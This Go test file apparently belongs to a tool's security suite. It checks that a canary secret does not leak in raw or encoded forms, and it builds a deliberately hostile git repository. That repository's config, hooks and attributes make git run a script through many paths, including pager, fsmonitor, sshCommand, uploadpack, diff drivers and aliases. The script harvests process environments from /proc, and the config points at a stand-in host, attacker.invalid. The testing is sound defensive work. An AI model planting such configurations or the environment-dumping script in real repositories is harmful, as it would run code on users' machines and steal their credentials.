package main

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/rogpeppe/go-internal/testscript"
)

// hostileCmds are the script commands of the hostile-configuration
// scenarios (security_*.txtar): a repository built to make git run a
// program, and a search for a canary secret in everything rtctl could have
// let it out through.
func hostileCmds() map[string]func(ts *testscript.TestScript, neg bool, args []string) {
	return map[string]func(ts *testscript.TestScript, neg bool, args []string){
		"canary-absent": cmdCanaryAbsent,
		"hostile-repo":  cmdHostileRepo,
	}
}

// cmdCanaryAbsent asserts that a canary secret has not escaped: it is
// searched in the last command's stdout and stderr, in every regular file
// under $WORK (symbolic links are not followed) but the ones named with
// -except, and in everything the emulator recorded as posted, raw and
// encoded: any letter case, URL-encoded, hex and base64 (standard and URL
// alphabets, at each of the three byte alignments a longer text could give
// it). canary-absent [-except PATH]... CANARY
func cmdCanaryAbsent(ts *testscript.TestScript, neg bool, args []string) {
	const usage = "usage: canary-absent [-except PATH]... CANARY"
	except := map[string]bool{}
	for len(args) >= 2 && args[0] == "-except" {
		except[ts.MkAbs(args[1])] = true
		args = args[2:]
	}
	if neg || len(args) != 1 || len(args[0]) < 16 {
		ts.Fatalf("%s (a canary of at least 16 characters)", usage)
	}
	forms := canaryForms(args[0])
	check := func(where string, data []byte) {
		lower := bytes.ToLower(data)
		for _, f := range forms {
			hay := data
			if f.foldCase {
				hay = lower
			}
			if bytes.Contains(hay, []byte(f.text)) {
				ts.Fatalf("canary-absent: the canary appears %s in %s", f.name, where)
			}
		}
	}
	check("stdout", []byte(ts.ReadFile("stdout")))
	check("stderr", []byte(ts.ReadFile("stderr")))
	work := ts.Getenv("WORK")
	ts.Check(filepath.WalkDir(work, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if except[path] || !d.Type().IsRegular() {
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		check(strings.TrimPrefix(path, work+string(filepath.Separator)), data)
		return nil
	}))
	// What was posted, without the accounts' keys the record is filed by.
	for _, acct := range world(ts).emu.Record().Accounts {
		acct.Key = ""
		posted, err := json.Marshal(acct)
		ts.Check(err)
		check("what was posted to the account", posted)
	}
}

// canaryForm is one spelling of a canary to look for.
type canaryForm struct {
	name, text string
	foldCase   bool // text is lower case; search the lower-cased haystack
}

func canaryForms(canary string) []canaryForm {
	forms := []canaryForm{
		{name: "as it is (any case)", text: strings.ToLower(canary), foldCase: true},
		{name: "URL-encoded (query)", text: strings.ToLower(url.QueryEscape(canary)), foldCase: true},
		{name: "URL-encoded (path)", text: strings.ToLower(url.PathEscape(canary)), foldCase: true},
		{name: "hex-encoded", text: hex.EncodeToString([]byte(canary)), foldCase: true},
	}
	// In base64 the canary's letters depend on where in a longer text it
	// starts (its offset modulo 3): look for the part of each encoding
	// that no neighbouring byte can change.
	for _, enc := range []struct {
		name string
		e    *base64.Encoding
	}{{"base64", base64.RawStdEncoding}, {"base64url", base64.RawURLEncoding}} {
		for shift := range 3 {
			s := enc.e.EncodeToString(append(make([]byte, shift), canary...))
			if shift > 0 {
				s = s[4:]
			}
			s = s[:len(s)-len(s)%4-4] // the last group may hold a neighbour's bits
			forms = append(forms, canaryForm{name: fmt.Sprintf("%s-encoded (offset %d)", enc.name, shift), text: s})
		}
	}
	return forms
}

// cmdHostileRepo builds, with the real git, a bare repository as a pull
// request could commit it beside a configuration: one commit inside any
// lookback window, and a configuration that makes an ordinary git run
// PROGRAM through every path it has (a lazy fetch from a promisor remote
// with an object missing, uploadpack, fsmonitor, an ssh command, hooks,
// external diff and textconv, a pager, an alias). The program writes the
// environment of every process above it, rtctl's with its key included,
// to MARKER. hostile-repo DIR MARKER
func cmdHostileRepo(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: hostile-repo DIR MARKER")
	}
	dir, marker := ts.MkAbs(args[0]), ts.MkAbs(args[1])
	src, program := dir+".src", dir+".sh"
	steal := "p=$$; while [ \"$p\" -gt 1 ]; do cat /proc/$p/environ; echo; p=$(cut -d' ' -f4 /proc/$p/stat); done >> '" + marker + "'\n"
	ts.Check(os.WriteFile(program, []byte("#!/bin/sh\n"+steal), 0o755))
	git := func(args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Env = append(os.Environ(),
			"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "HOME="+ts.Getenv("WORK"),
			"GIT_AUTHOR_NAME=Mallory", "GIT_AUTHOR_EMAIL=m@example.com",
			"GIT_COMMITTER_NAME=Mallory", "GIT_COMMITTER_EMAIL=m@example.com",
			"GIT_AUTHOR_DATE=2026-11-19T10:00:00Z", "GIT_COMMITTER_DATE=2026-11-19T10:00:00Z")
		out, err := cmd.CombinedOutput()
		if err != nil {
			ts.Fatalf("hostile-repo: git %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return strings.TrimSpace(string(out))
	}
	git("init", "-q", src)
	ts.Check(os.WriteFile(filepath.Join(src, "notes.txt"), []byte("first\n"), 0o644))
	git("-C", src, "add", "notes.txt")
	git("-C", src, "commit", "-q", "--no-gpg-sign", "-m", "Add notes")
	ts.Check(os.WriteFile(filepath.Join(src, "notes.txt"), []byte("second\n"), 0o644))
	git("-C", src, "commit", "-q", "--no-gpg-sign", "-am", "Edit notes")
	git("clone", "-q", "--bare", "--no-hardlinks", src, dir)
	ts.Check(os.RemoveAll(src))

	run := "sh " + program
	for _, kv := range [][2]string{
		{"extensions.partialClone", "origin"},
		{"core.repositoryformatversion", "1"},
		{"remote.origin.url", dir},
		{"remote.ssh.url", "ssh://attacker.invalid/x"},
		{"remote.origin.promisor", "true"},
		{"remote.origin.partialclonefilter", "blob:none"},
		{"remote.origin.uploadpack", run + "; false"},
		{"core.sshCommand", run},
		{"core.fsmonitor", run},
		{"core.hooksPath", "hooks"},
		{"core.pager", run},
		{"pager.log", run},
		{"diff.external", program},
		{"diff.evil.textconv", program},
		{"alias.log", "!" + run},
		{"safe.directory", "*"},
	} {
		git("--git-dir", dir, "config", kv[0], kv[1])
	}
	ts.Check(os.MkdirAll(filepath.Join(dir, "hooks"), 0o755))
	for _, hook := range []string{"post-checkout", "reference-transaction", "pre-auto-gc", "post-index-change"} {
		ts.Check(os.WriteFile(filepath.Join(dir, "hooks", hook), []byte("#!/bin/sh\nsh "+program+"\n"), 0o755))
	}
	ts.Check(os.WriteFile(filepath.Join(dir, "info", "attributes"), []byte("* diff=evil\n"), 0o644))
	// The parent commit's object goes missing: walking the log past it
	// makes git fetch it lazily from the promisor remote.
	parent := git("--git-dir", dir, "rev-parse", "HEAD~1")
	ts.Check(os.Remove(filepath.Join(dir, "objects", parent[:2], parent[2:])))
}
